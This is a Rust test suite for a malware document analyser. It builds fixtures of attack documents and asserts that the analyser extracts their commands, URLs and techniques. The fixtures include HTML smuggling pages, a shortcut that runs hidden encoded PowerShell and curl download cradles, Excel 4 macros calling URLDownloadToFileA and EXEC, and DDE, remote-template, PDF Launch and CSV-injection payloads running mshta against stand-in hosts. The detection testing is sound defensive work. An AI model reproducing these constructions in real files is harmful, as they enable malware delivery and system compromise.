//! Documents that attack: pages that smuggle files, shortcuts, macros of Excel 4, templates
//! from elsewhere, dynamic data exchange.

use crate::{PAYLOAD, analysis, finds_payload, zipped};
use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use proptest::prelude::*;
use std::io::Write;
use std::process::Command;
use std::sync::LazyLock;
use ukai_model::{Analysis, ArtefactKind};
use ukai_static::{Look, Seen, View, view};

fn told(analysis: &Analysis, kind: ArtefactKind) -> Vec<String> {
    let of_kind = analysis.artefacts.iter().filter(|it| it.kind == kind);
    of_kind.map(|it| String::from_utf8_lossy(it.value.as_bytes()).into_owned()).collect()
}

fn has_url(analysis: &Analysis, url: &str) -> bool {
    analysis.observables.iter().any(|it| it.observable.value == url)
}

#[test]
fn pages_that_smuggle() {
    let zip = zipped();
    let base64 = BASE64_STANDARD.encode(&zip);
    let (first, second) = base64.split_at(base64.len() / 2);
    let numbers: Vec<String> = zip.iter().map(u8::to_string).collect();
    let numbers = numbers.join(", ");
    let key = b"Kq7!";
    let hidden: Vec<u8> =
        zip.iter().zip(key.iter().cycle()).map(|(byte, key)| byte ^ key).collect();
    let hidden = BASE64_STANDARD.encode(hidden);
    let reversed: String = base64.trim_end_matches('=').chars().rev().collect();
    let save = "var b = new Blob([bytes], {type: 'octet/stream'}); var a = document.createElement('a');\
                a.href = URL.createObjectURL(b); a.download = fileName; a.click();";
    let pages = [
        (
            "joined",
            format!(
                "<html><body>It isn't here.<script>var fileName = \"invoice.zip\";\n\
             var s = '{first}' +\n '{second}'; var bytes = atob(s); {save}</script></body></html>"
            ),
        ),
        (
            "added",
            format!(
                "<!DOCTYPE html><script>let fileName='invoice.zip'; let s = \"{first}\"; s += \"{second}\";\
             bytes = atob(s); {save}</script>"
            ),
        ),
        (
            "list",
            format!(
                "<html><script>var fileName = `invoice.zip`; var bytes = new Uint8Array([{numbers}]); {save}</script>"
            ),
        ),
        (
            "pieces",
            format!(
                "<html><script>var bytes = atob(['{first}', '{second}'].join(''));\
             navigator.msSaveOrOpenBlob(new Blob([bytes], {{type: 'a/b'}}), 'invoice.zip');</script>"
            ),
        ),
        (
            "xor",
            format!(
                "<html><script>var fileName = 'invoice.zip', k = 'Kq7!'; var d = atob('{hidden}');\
             for (i = 0; i < d.length; i++) r[i] = d.charCodeAt(i) ^ k.charCodeAt(i % 4); {save}</script>"
            ),
        ),
        (
            "reversed",
            format!(
                "<html><script>var fileName = 'invoice.zip'; var bytes = atob('{reversed}'.split('').reverse().join('')); {save}</script>"
            ),
        ),
        (
            "uri",
            format!(
                "<html><body><a id=x download=\"invoice.zip\" href=\"data:application/zip;base64,{base64}\">open</a></body></html>"
            ),
        ),
        (
            "drawing",
            format!(
                "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>var fileName='invoice.zip';\
             var bytes = atob('{base64}'); {save}</script></svg>"
            ),
        ),
    ];
    for (what, page) in pages {
        let analysis = analysis(page.as_bytes());
        finds_payload(&analysis, what);
        let member = analysis.members.iter().find(|it| it.container == "html smuggling");
        let member = member.unwrap_or_else(|| panic!("{what}: {:?}", analysis.members));
        assert_eq!(
            member.name.as_ref().map(ToString::to_string).as_deref(),
            Some("invoice.zip"),
            "{what}"
        );
        let techniques = told(&analysis, ArtefactKind::Technique);
        let start = format!("HTML smuggling: invoice.zip, {} bytes, from ", zip.len());
        assert!(techniques.iter().any(|it| it.starts_with(&start)), "{what}: {techniques:?}");
    }
    // An encrypted file is kept too; a page that only shows pictures is left alone.
    let noise: Vec<u8> =
        (0..4000u32).map(|at| (at.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    let page = format!(
        "<html><script>var fileName='x.iso'; var bytes = atob('{}'); {save}</script>",
        BASE64_STANDARD.encode(&noise)
    );
    let unknown = analysis(page.as_bytes());
    assert!(unknown.members.iter().any(|it| it.size == 4000), "{:?}", unknown.members);
    let page = format!(
        "<html><img src=\"data:image/png;base64,{}\"><script>let x = [1, 2, 3];</script></html>",
        BASE64_STANDARD
            .encode(b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0\x90wS\xde")
    );
    assert_eq!(told(&analysis(page.as_bytes()), ArtefactKind::Technique), Vec::<String>::new());
}

/// UTF-16 with its length in front, as shortcuts keep texts.
fn counted(text: &str) -> Vec<u8> {
    let units: Vec<u16> = text.encode_utf16().collect();
    let mut bytes = (units.len() as u16).to_le_bytes().to_vec();
    bytes.extend(units.iter().flat_map(|unit| unit.to_le_bytes()));
    bytes
}

/// A shortcut as Explorer makes it, by MS-SHLLINK.
fn shortcut(arguments: &str, overlay: &[u8]) -> Vec<u8> {
    let mut link = vec![0; 0x4c];
    link[..4].copy_from_slice(&0x4cu32.to_le_bytes());
    link[4..20].copy_from_slice(b"\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46");
    // Items, information, folder, arguments, icon, wide, environment.
    let flags: u32 = 1 | 2 | 0x10 | 0x20 | 0x40 | 0x80 | 0x200;
    link[20..24].copy_from_slice(&flags.to_le_bytes());
    link[24] = 0x20;
    link[60..64].copy_from_slice(&7u32.to_le_bytes());
    // This computer, C:\, a file with a short and a long name.
    let mut items = vec![0x14, 0, 0x1f, 0x50];
    items.extend(b"\xe0\x4f\xd0\x20\xea\x3a\x69\x10\xa2\xd8\x08\0\x2b\x30\x30\x9d");
    let mut volume = vec![0x19, 0, 0x2f];
    volume.extend(b"C:\\");
    volume.resize(0x19, 0);
    items.extend(volume);
    let mut file = vec![0, 0, 0x32, 0];
    file.extend([0; 8]);
    file.extend(0x20u16.to_le_bytes());
    file.extend(b"LONGTO~1.EXE\0\0");
    let extension = file.len();
    let name: Vec<u8> = "long tool.exe\0".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut more = vec![0, 0, 3, 0, 4, 0, 0xef, 0xbe];
    more.extend([0; 8]);
    more.extend(0x14u16.to_le_bytes());
    more.extend([0; 2]);
    more.extend(name);
    more.extend((extension as u16).to_le_bytes());
    let length = more.len() as u16;
    more[..2].copy_from_slice(&length.to_le_bytes());
    file.extend(more);
    let length = file.len() as u16;
    file[..2].copy_from_slice(&length.to_le_bytes());
    items.extend(file);
    items.extend([0, 0]);
    link.extend((items.len() as u16).to_le_bytes());
    link.extend(items);
    // A volume and a path on it.
    let path = b"C:\\long tool.exe\0";
    let label = b"SYSTEM\0";
    let volume_length = 16 + label.len() as u32;
    let path_at = 28 + volume_length;
    let total = path_at + path.len() as u32 + 1;
    for word in [total, 28, 1, 28, path_at, 0, total - 1] {
        link.extend(word.to_le_bytes());
    }
    for word in [volume_length, 3, 0x1a2b_3c4d, 16] {
        link.extend(word.to_le_bytes());
    }
    link.extend(label);
    link.extend(path);
    link.push(0);
    link.extend(counted("C:\\Users\\mallory\\Desktop"));
    link.extend(counted(arguments));
    link.extend(counted("%SystemRoot%\\System32\\shell32.dll"));
    // Environment: the target in bytes and in UTF-16.
    let target = "%windir%\\System32\\cmd.exe";
    let mut block = vec![0; 0x314];
    block[..4].copy_from_slice(&0x314u32.to_le_bytes());
    block[4..8].copy_from_slice(&0xa000_0001u32.to_le_bytes());
    block[8..8 + target.len()].copy_from_slice(target.as_bytes());
    let wide: Vec<u8> = target.encode_utf16().flat_map(u16::to_le_bytes).collect();
    block[268..268 + wide.len()].copy_from_slice(&wide);
    link.extend(block);
    // The tracker's: machine, and identifiers of version 1 with its network address.
    let mut block = vec![0; 0x60];
    block[..4].copy_from_slice(&0x60u32.to_le_bytes());
    block[4..8].copy_from_slice(&0xa000_0003u32.to_le_bytes());
    block[8..12].copy_from_slice(&0x58u32.to_le_bytes());
    block[16..27].copy_from_slice(b"desktop-evl");
    let uuid = b"\x11\x22\x33\x44\x55\x66\xee\x11\x80\x01\x08\x00\x27\xab\xcd\xef";
    block[48..64].copy_from_slice(uuid);
    block[80..96].copy_from_slice(uuid);
    link.extend(block);
    link.extend([0; 4]);
    link.extend(overlay);
    link
}

#[test]
fn shortcuts() {
    let script: Vec<u8> =
        "IEX (New-Object Net.WebClient).DownloadString('http://dl.lnk.example/a.ps1')"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
    let arguments = format!(
        "{}/c start /min p^owershell -w hidden -enc {} & c^u^r^l ht^tp://dl2.lnk.example/b",
        " ".repeat(300),
        BASE64_STANDARD.encode(&script)
    );
    let link = shortcut(&arguments, PAYLOAD);
    // liblnk reads it so, too.
    let folder = tempfile::tempdir().expect("a temporary directory");
    std::fs::write(folder.path().join("a.lnk"), &link).expect("written");
    let read = Command::new("lnkinfo").arg(folder.path().join("a.lnk")).output();
    let read = read.expect("tools/setup.sh test installs it");
    let read = String::from_utf8_lossy(&read.stdout).into_owned();
    for line in [
        "Local path\t\t\t: C:\\long tool.exe",
        "Working directory\t\t: C:\\Users\\mallory\\Desktop",
        "Icon location\t\t\t: %SystemRoot%\\System32\\shell32.dll",
        "Machine identifier\t\t: desktop-evl",
        "Drive serial number\t\t: 0x1a2b3c4d",
        "Volume label\t\t\t: SYSTEM",
        "Shell item list",
    ] {
        let plain = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(plain(&read).contains(&plain(line)), "{line}\n{read}");
    }
    let analysis = analysis(&link);
    let line = format!("%windir%\\System32\\cmd.exe {}", arguments.trim());
    let command = &told(&analysis, ArtefactKind::Command)[0];
    assert_eq!(*command, line[..256]);
    let origins = told(&analysis, ArtefactKind::Origin);
    for origin in [
        "working directory C:\\Users\\mallory\\Desktop",
        "icon %SystemRoot%\\System32\\shell32.dll",
        "volume serial 1A2B-3C4D, label SYSTEM",
        "machine desktop-evl",
        "network address 08:00:27:ab:cd:ef",
    ] {
        assert!(origins.iter().any(|it| it == origin), "{origin}: {origins:?}");
    }
    let techniques = told(&analysis, ArtefactKind::Technique);
    for part in ["behind 300 white space", "minimised", "bytes behind it"] {
        assert!(techniques.iter().any(|it| it.contains(part)), "{part}: {techniques:?}");
    }
    finds_payload(&analysis, "behind the shortcut");
    for url in ["http://dl.lnk.example/a.ps1", "http://dl2.lnk.example/b"] {
        assert!(
            has_url(&analysis, url),
            "{url}: {:?} {:?}",
            analysis.observables,
            analysis.members
        );
    }
    let kinds: Vec<&str> = analysis.members.iter().map(|it| it.file_type.name.as_str()).collect();
    assert!(kinds.contains(&"batch"), "{kinds:?}");
    // Cut off anywhere it is still read as far as it goes, and ends.
    for end in (0..link.len()).step_by(7) {
        crate::analysis(&link[..end]);
    }
}

const FORMULAS: [&str; 6] = [
    "CONCATENATE(Data!A1,\"ex\",CHAR(97),\"mple/\")&CHAR(Data!A2)&\".exe\"",
    "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,A1,\"C:\\\\ProgramData\\\\x.exe\",0,0)",
    "REGISTER(\"Shell32\",\"Shell\"&\"ExecuteA\",\"JJCCCJJ\",\"Runs\",1,9)",
    "EXEC(\"cmd /c start \"&MID(\"xxcalc.exe\",3,8))",
    "IF(1>2,GOTO(A1),-(2+3)*4)",
    "HALT()",
];

/// A book by xlwt, with a macro sheet.
pub(crate) fn book_by_xlwt() -> Vec<u8> {
    let folder = tempfile::tempdir().expect("a temporary directory");
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/unpack/xlm_book.py");
    let made = Command::new("/opt/ukai-test/references/bin/python")
        .arg(script)
        .arg("a.xls")
        .args(FORMULAS)
        .current_dir(folder.path())
        .output();
    let made = made.expect("tools/setup.sh test installs it");
    assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
    std::fs::read(folder.path().join("a.xls")).expect("made")
}

/// The formulas come back as they were written.
#[test]
fn macros_of_excel_4() {
    let book = book_by_xlwt();
    let analysis = analysis(&book);
    assert_eq!(analysis.file_type.as_ref().expect("a type").name, "xls");
    let index = analysis.members.iter().position(|it| it.container == "xlm");
    let index = index.unwrap_or_else(|| panic!("{:?} {:?}", analysis.members, analysis.notes));
    let text = layer(&book, index);
    for line in [
        "Auto_Open: Macro1!A1",
        "Macro1!A1: =CONCATENATE(Data!A1,\"ex\",CHAR(97),\"mple/\")&CHAR(Data!A2)&\".exe\"",
        "Macro1!A1: -> =\"http://cnc.xlm.example/e.exe\"",
        "Macro1!A4: -> =EXEC(\"cmd /c start calc.exe\")",
        "Macro1!A5: =IF(1>2,GOTO(A1),-(2+3)*4)",
        "Macro1!A6: =HALT()",
    ] {
        assert!(text.lines().any(|it| it == line), "{line}\n{text}");
    }
    check_macros(&analysis, "xls");
}

pub(crate) fn check_macros(analysis: &Analysis, what: &str) {
    assert!(
        has_url(analysis, "http://cnc.xlm.example/e.exe"),
        "{what}: {:?}",
        analysis.observables
    );
    assert_eq!(told(analysis, ArtefactKind::Command), ["cmd /c start calc.exe"], "{what}");
    let techniques = told(analysis, ArtefactKind::Technique);
    for start in [
        "XLM: macro sheet Macro1 is very hidden",
        "XLM: auto_open runs Macro1!A1",
        "XLM: calls urlmon!URLDownloadToFileA(0, http://cnc.xlm.example/e.exe, ",
        "XLM: registers Shell32!ShellExecuteA",
    ] {
        assert!(
            techniques.iter().any(|it| it.starts_with(start)),
            "{what}: {start}: {techniques:?}"
        );
    }
}

/// The first 16 KiB of a member.
fn layer(bytes: &[u8], index: usize) -> String {
    let look = Look::Bytes { offset: 0, length: 16 << 10 };
    let viewed = view(bytes, &View { layer: Some(index as u32), look });
    match viewed.seen {
        Seen::Bytes { hex: digits, .. } => {
            let bytes = hex::decode(digits).expect("digits");
            String::from_utf8(bytes).expect("a text")
        }
        other => panic!("{other:?}"),
    }
}

/// An archive in which everything is as it is.
fn zip_of(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let options = zip::write::SimpleFileOptions::default();
    let options = options.compression_method(zip::CompressionMethod::Stored);
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, content) in parts {
        zip.start_file(*name, options).expect("memory");
        zip.write_all(content).expect("memory");
    }
    zip.finish().expect("memory").into_inner()
}

const RELATIONS: &str = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
    <Relationship Id=\"rId1\" Type=\"x/worksheet\" Target=\"worksheets/sheet1.END\"/>\
    <Relationship Id=\"rId2\" Type=\"x/xlMacrosheet\" Target=\"macrosheets/sheet1.END\"/></Relationships>";

#[test]
fn macros_in_the_newer_formats() {
    let escaped = |formula: &str| formula.replace('&', "&amp;").replace('>', "&gt;");
    let cells: Vec<String> = FORMULAS
        .iter()
        .enumerate()
        .map(|(row, formula)| {
            let row = row + 1;
            format!(
                "<row r=\"{row}\"><c r=\"A{row}\"><f>{}</f><v>0</v></c></row>",
                escaped(formula)
            )
        })
        .collect();
    let cells = cells.concat();
    let book = zip_of(&[
        ("[Content_Types].xml", b"<?xml version=\"1.0\"?><Types/>"),
        (
            "xl/workbook.xml",
            b"<?xml version=\"1.0\"?><workbook xmlns:r=\"x\"><sheets><sheet name=\"Data\" sheetId=\"1\" r:id=\"rId1\"/>\
              <sheet name=\"Macro1\" sheetId=\"2\" state=\"veryHidden\" r:id=\"rId2\"/></sheets><definedNames>\
              <definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">Macro1!$A$1</definedName></definedNames></workbook>",
        ),
        ("xl/_rels/workbook.xml.rels", RELATIONS.replace("END", "xml").as_bytes()),
        ("xl/sharedStrings.xml", b"<sst><si><t>http://cnc</t><t>.xlm.</t></si></sst>"),
        (
            "xl/worksheets/sheet1.xml",
            b"<worksheet><c r=\"A1\" t=\"s\"><v>0</v></c><c r=\"A2\"><v>101</v></c></worksheet>",
        ),
        (
            "xl/macrosheets/sheet1.xml",
            format!("<?xml version=\"1.0\"?><xm:macrosheet xmlns:xm=\"x\"><sheetData>{cells}</sheetData></xm:macrosheet>").as_bytes(),
        ),
    ]);
    check_macros(&analysis(&book), "xlsm");
}

/// A record of .xlsb.
fn record(kind: u16, content: &[u8]) -> Vec<u8> {
    let mut out = vec![kind as u8];
    if kind >= 128 {
        out = vec![kind as u8 & 0x7f | 0x80, (kind >> 7) as u8];
    }
    let mut length = content.len();
    while length >= 128 {
        out.push(length as u8 & 0x7f | 0x80);
        length >>= 7;
    }
    out.push(length as u8);
    out.extend(content);
    out
}

fn long(text: &str) -> Vec<u8> {
    let mut bytes = (text.encode_utf16().count() as u32).to_le_bytes().to_vec();
    bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    bytes
}

/// A formula's text token.
fn token(text: &str) -> Vec<u8> {
    let mut bytes = vec![0x17];
    bytes.extend((text.encode_utf16().count() as u16).to_le_bytes());
    bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    bytes
}

/// Nothing in Debian writes .xlsb: by MS-XLSB.
fn binary_book() -> Vec<u8> {
    let sheet = |state: u32, id: &str, name: &str| {
        let mut content = [state.to_le_bytes(), 1u32.to_le_bytes()].concat();
        content.extend(long(id));
        content.extend(long(name));
        record(156, &content)
    };
    let reference = |sheet: u16, row: u32| {
        let mut bytes = vec![0x5a];
        bytes.extend(sheet.to_le_bytes());
        bytes.extend(row.to_le_bytes());
        bytes.extend(0u16.to_le_bytes());
        bytes
    };
    let sized = |tokens: &[u8]| [&(tokens.len() as u32).to_le_bytes()[..], tokens].concat();
    let mut references = 2u32.to_le_bytes().to_vec();
    for sheet in [0u32, 1] {
        for word in [0, sheet, sheet] {
            references.extend(word.to_le_bytes());
        }
    }
    let mut name = vec![0x20, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff];
    name.extend(long("_xlnm.Auto_Open"));
    name.extend(sized(&reference(1, 0)));
    let workbook = [
        sheet(0, "rId1", "Data"),
        sheet(2, "rId2", "Macro1"),
        record(362, &references),
        record(39, &name),
    ]
    .concat();
    let cell = |column: u32, rest: &[u8]| [&column.to_le_bytes()[..], &[0; 4], rest].concat();
    let mut text = vec![0];
    text.extend(long("http://cnc.xlm.example/"));
    let texts = record(19, &text);
    let data = [
        record(0, &0u32.to_le_bytes()),
        record(7, &cell(0, &0u32.to_le_bytes())),
        record(0, &1u32.to_le_bytes()),
        record(2, &cell(0, &(101u32 << 2 | 2).to_le_bytes())),
    ]
    .concat();
    let formulas: [Vec<u8>; 4] = [
        [reference(0, 0), reference(0, 1), vec![0x41, 111, 0, 0x08], token(".exe"), vec![0x08]]
            .concat(),
        [
            token("urlmon"),
            token("URLDownloadToFileA"),
            token("JJCCJJ"),
            vec![0x1e, 0, 0],
            vec![0x44, 0, 0, 0, 0, 0, 0xc0],
            token("x.exe"),
            vec![0x42, 6, 150, 0],
        ]
        .concat(),
        [token("Shell32"), token("ShellExecuteA"), vec![0x42, 2, 149, 0]].concat(),
        [token("cmd /c start calc.exe"), vec![0x42, 1, 110, 0]].concat(),
    ];
    let mut macros = Vec::new();
    for (row, formula) in formulas.iter().enumerate() {
        macros.extend(record(0, &(row as u32).to_le_bytes()));
        let mut rest = 0f64.to_le_bytes().to_vec();
        rest.extend([0, 0]);
        rest.extend(sized(formula));
        rest.extend(0u32.to_le_bytes());
        macros.extend(record(9, &cell(0, &rest)));
    }
    zip_of(&[
        ("xl/workbook.bin", &workbook),
        ("xl/_rels/workbook.bin.rels", RELATIONS.replace("END", "bin").as_bytes()),
        ("xl/sharedStrings.bin", &texts),
        ("xl/worksheets/sheet1.bin", &data),
        ("xl/macrosheets/sheet1.bin", &macros),
    ])
}

#[test]
fn macros_in_the_binary_format() {
    let analysis = analysis(&binary_book());
    assert_eq!(analysis.file_type.as_ref().expect("a type").name, "xlsb");
    check_macros(&analysis, "xlsb");
}

#[test]
fn macros_that_write_macros() {
    let cells = [
        "FORMULA(\"=EXE\"&\"C(\"\"mshta \"&A9&\"\"\")\",A3)",
        "SET.VALUE(B1,\"http://\"&\"late.example/\")",
        "",
        "EXEC(\"certutil -urlcache \"&B1&\"x\")",
        // Cells that refer to themselves, and some that double a text.
        "A5&A5",
        "A7&A7",
        "A8&A8",
        "REPT(\"x\",30000)&A7",
    ];
    let rows: Vec<String> = cells
        .iter()
        .enumerate()
        .filter(|(_, formula)| !formula.is_empty())
        .map(|(row, formula)| {
            let formula = formula.replace('&', "&amp;");
            format!("<c r=\"A{}\"><f>{formula}</f></c>", row + 1)
        })
        .collect();
    let mut rows = rows.concat();
    rows.push_str("<c r=\"A9\" t=\"inlineStr\"><is><t>http://hta.example/a.hta</t></is></c>");
    let book = zip_of(&[
        (
            "xl/workbook.xml",
            b"<workbook><sheets><sheet name=\"M\" r:id=\"rId2\"/></sheets></workbook>",
        ),
        ("xl/_rels/workbook.xml.rels", RELATIONS.replace("END", "xml").as_bytes()),
        ("xl/macrosheets/sheet1.xml", rows.as_bytes()),
    ]);
    let analysis = analysis(&book);
    let commands = told(&analysis, ArtefactKind::Command);
    assert_eq!(
        commands,
        ["mshta http://hta.example/a.hta", "certutil -urlcache http://late.example/x"]
    );
    assert!(has_url(&analysis, "http://late.example/x"), "{:?}", analysis.observables);
}

#[test]
fn what_documents_load_and_start() {
    let template = zip_of(&[
        ("[Content_Types].xml", b"<?xml version=\"1.0\"?><Types/>"),
        ("word/document.xml", b"<?xml version=\"1.0\"?><w:document/>"),
        (
            "word/_rels/settings.xml.rels",
            b"<?xml version=\"1.0\"?><Relationships><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://tpl.example/a.dotm\" TargetMode=\"External\"/></Relationships>",
        ),
    ]);
    let field = "<?xml version=\"1.0\"?><w:document><w:fldChar w:fldCharType=\"begin\"/><w:instrText> DDE</w:instrText>\
        <w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k mshta http://dde.example/a\" </w:instrText><w:fldChar w:fldCharType=\"end\"/></w:document>";
    let word = zip_of(&[("word/document.xml", field.as_bytes())]);
    let link = zip_of(&[
        ("xl/workbook.xml", b"<?xml version=\"1.0\"?><workbook/>"),
        (
            "xl/externalLinks/externalLink1.xml",
            b"<?xml version=\"1.0\"?><externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c mshta http://dde.example/a\"/></externalLink>",
        ),
    ]);
    let rtf = b"{\\rtf1{\\*\\template \\'68ttp://tp\\u108?.example/{\\x}a.dotm}{\\field{\\*\\fldinst {DDEAUTO cmd \"/k mshta http://dde.example/a\"}}}}";
    let text = b"Name,Value\n=cmd|'/c mshta http://dde.example/a'!A0,1\n";
    let mut doc = cfb::CompoundFile::create(std::io::Cursor::new(Vec::new())).expect("memory");
    let mut stream = doc.create_stream("/WordDocument").expect("memory");
    let body = "text \u{13} DDEAUTO cmd \"/k mshta http://dde.example/a\" \u{14}x\u{15}";
    stream.write_all(body.as_bytes()).expect("memory");
    drop(stream);
    let doc = doc.into_inner().into_inner();
    let pdf = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/OpenAction 2 0 R>>\nendobj\n2 0 obj\n\
        <</S/Lau#6ech /Win<</F(cmd.exe)/P(/c mshta http://dde.example/a)>>>>\nendobj\n";
    let mut form = b"%PDF-1.7\n1 0 obj\n<</Type/ObjStm/Filter/FlateDecode>>\nstream\n".to_vec();
    let mut packed = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    let action = b"3 0 <</S/SubmitForm/F<</FS/URL/F(http://form.example/\\(a)>>>>";
    packed.write_all(action).expect("memory");
    form.extend(packed.finish().expect("memory"));
    form.extend(b"\nendstream\nendobj\n");
    // A module's stream: what the compiler made of it, and a chunk that is not compressed.
    let module = "Attribute VB_Name = \"M\"\r\nSub AutoOpen()\r\nShell \"calc\"\r\nEnd Sub\r\n";
    let mut chunk = vec![1, 0xff, 0xb3];
    for eight in module.as_bytes().chunks(8) {
        chunk.push(0);
        chunk.extend(eight);
    }
    let length = (chunk.len() - 4) as u16 | 0xb000;
    chunk[1..3].copy_from_slice(&length.to_le_bytes());
    let mut project = cfb::CompoundFile::create(std::io::Cursor::new(Vec::new())).expect("memory");
    project.create_storage("/VBA").expect("memory");
    let mut stream = project.create_stream("/VBA/M").expect("memory");
    stream.write_all(&[b"compiled", chunk.as_slice()].concat()).expect("memory");
    drop(stream);
    let project = project.into_inner().into_inner();
    let cases: [(&str, &[u8], Option<&str>, &str); 9] = [
        (
            "pdf",
            pdf,
            Some("cmd.exe /c mshta http://dde.example/a"),
            "PDF: starts cmd.exe /c mshta http://dde.example/a",
        ),
        ("form", &form, None, "PDF: sends its form to http://form.example/(a"),
        ("vba", &project, None, "VBA: autoopen runs by itself; shell"),
        ("template", &template, None, "remote template: http://tpl.example/a.dotm"),
        (
            "word",
            &word,
            Some("c:\\windows\\system32\\cmd.exe /k mshta http://dde.example/a"),
            "DDE: asks c:\\windows",
        ),
        ("excel", &link, Some("cmd /c mshta http://dde.example/a"), "DDE: asks cmd for /c mshta"),
        (
            "rtf",
            rtf,
            Some("cmd /k mshta http://dde.example/a"),
            "remote template: http://tpl.example/a.dotm",
        ),
        ("csv", text, Some("cmd /c mshta http://dde.example/a"), "DDE: asks cmd for /c mshta"),
        ("doc", &doc, Some("cmd /k mshta http://dde.example/a"), "DDE: asks cmd for /k mshta"),
    ];
    for (what, bytes, command, technique) in cases {
        let analysis = analysis(bytes);
        let techniques = told(&analysis, ArtefactKind::Technique);
        assert!(techniques.iter().any(|it| it.starts_with(technique)), "{what}: {techniques:?}");
        if let Some(command) = command {
            assert_eq!(told(&analysis, ArtefactKind::Command), [command], "{what}");
            assert!(has_url(&analysis, "http://dde.example/a"), "{what}");
        }
        if matches!(what, "template" | "rtf") {
            assert!(has_url(&analysis, "http://tpl.example/a.dotm"), "{what}");
        }
    }
}

/// Documents of all kinds, to be broken.
static DOCUMENTS: LazyLock<Vec<Vec<u8>>> = LazyLock::new(|| {
    let page = format!(
        "<html><script>var s = ['{}', 'x'].join('') + \"\\x41\"; a.download = s; new Blob([77, 90, 3]);\
         saveAs(b, 'x.zip')</script><a href=\"data:a/b;base64,{}\" download=x.js></html>",
        BASE64_STANDARD.encode(zipped()),
        BASE64_STANDARD.encode(PAYLOAD)
    );
    let rtf = "{\\rtf1{\\*\\template \\'68ttp://a.example/\\u108?}{\\fldinst {DDE cmd \"/k a\"}}}";
    let macros = "<c r=\"A1\"><f>FORMULA(\"=EXEC(\"&amp;CHAR(34)&amp;MID(\"abc\",2,A2)&amp;\"\"\"\"\"\")\",B7)</f></c><c r=\"A2\"><v>3</v></c>";
    let book = zip_of(&[
        (
            "xl/workbook.xml",
            b"<workbook><sheets><sheet name=\"M\" r:id=\"rId2\"/></sheets></workbook>",
        ),
        ("xl/_rels/workbook.xml.rels", RELATIONS.replace("END", "xml").as_bytes()),
        ("xl/macrosheets/sheet1.xml", macros.as_bytes()),
    ]);
    vec![
        shortcut("/c calc", PAYLOAD),
        book_by_xlwt(),
        binary_book(),
        book,
        page.into_bytes(),
        rtf.as_bytes().to_vec(),
    ]
});

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn broken_documents(
        which in 0..6_usize,
        flips in proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..30),
        cut in any::<Option<prop::sample::Index>>(),
    ) {
        let mut bytes = DOCUMENTS[which].clone();
        let used: Vec<usize> = (0..bytes.len()).filter(|at| bytes[*at] != 0).collect();
        for (at, value) in flips {
            bytes[used[at.index(used.len())]] = value;
        }
        if let Some(cut) = cut {
            bytes.truncate(cut.index(bytes.len()));
        }
        analysis(&bytes);
    }
}
